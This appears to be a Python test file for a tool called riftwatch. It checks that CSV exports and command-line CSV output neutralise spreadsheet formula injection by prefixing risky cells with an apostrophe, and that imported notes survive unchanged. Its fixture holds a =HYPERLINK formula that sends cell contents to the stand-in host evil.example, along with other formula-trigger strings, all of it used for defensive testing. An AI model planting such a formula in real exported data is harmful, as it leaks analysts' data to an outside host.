"""Hostile text cannot become a spreadsheet formula in any CSV riftwatch writes.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by the spreadsheets analysts open CSV files in (``=HYPERLINK(...)`` sends data
away). Such text cells are written with a leading apostrophe, which the spreadsheet
shows as text, and the imports take it off again, so round trips keep the text exactly.
Numbers (a negative score) are left alone. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from riftwatch import api
from riftwatch.cli import app

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
TEXT = f"{FORMULA} Al Qaeda attacked the Haqqani network in Khost."
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(db_url: str, tmp_path: Path) -> str:
    path = tmp_path / "hostile.jsonl"
    record = {"id": "h1", "text": TEXT, "title": "@SUM(1+1)", "source": "+cmd", "date": "2014"}
    path.write_text(json.dumps(record) + "\n")
    api.ingest([path], db=db_url)
    api.extract_stored(db_url)
    return db_url


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(TRIGGERS), cell


def test_exports_write_no_formula(hostile: str, tmp_path: Path) -> None:
    (event,) = api.list_events(hostile)
    api.judge_event(hostile, event["id"], "reject", analyst="ana", note="-1 it was =not them")
    for kind in ("events", "claims", "judgements"):
        out = tmp_path / f"{kind}.csv"
        api.export(kind, "csv", out, db=hostile)
        text = out.read_text()
        _no_formula(text)
        # the title and the outlet, kept as text
        assert "'@SUM(1+1)" in text or "'+cmd" in text or kind == "judgements", kind
    assert "'-1 it was =not them" in (tmp_path / "judgements.csv").read_text()


def test_csv_output_of_read_commands_writes_no_formula(hostile: str) -> None:
    from typer.testing import CliRunner

    for args in (["events", "list"], ["docs", "list"], ["search", "HYPERLINK"]):
        result = CliRunner().invoke(app, ["--db", hostile, *args, "--format", "csv"])
        assert result.exit_code == 0, result.stderr
        _no_formula(result.stdout)
        assert "'" in result.stdout


def test_judgements_round_trip_their_text_exactly(hostile: str, tmp_path: Path) -> None:
    (event,) = api.list_events(hostile)
    note = "=1+1 @them -minus +plus"
    api.judge_event(hostile, event["id"], "reject", analyst="ana", note=note)
    out = tmp_path / "judgements.csv"
    api.export("judgements", "csv", out, db=hostile)
    fresh = str(tmp_path / "fresh.db")
    api.ingest([tmp_path / "hostile.jsonl"], db=fresh)
    api.extract_stored(fresh)
    api.import_judgements(out, db=fresh)
    (again,) = api.list_events(fresh)
    assert again["judgement"]["note"] == note
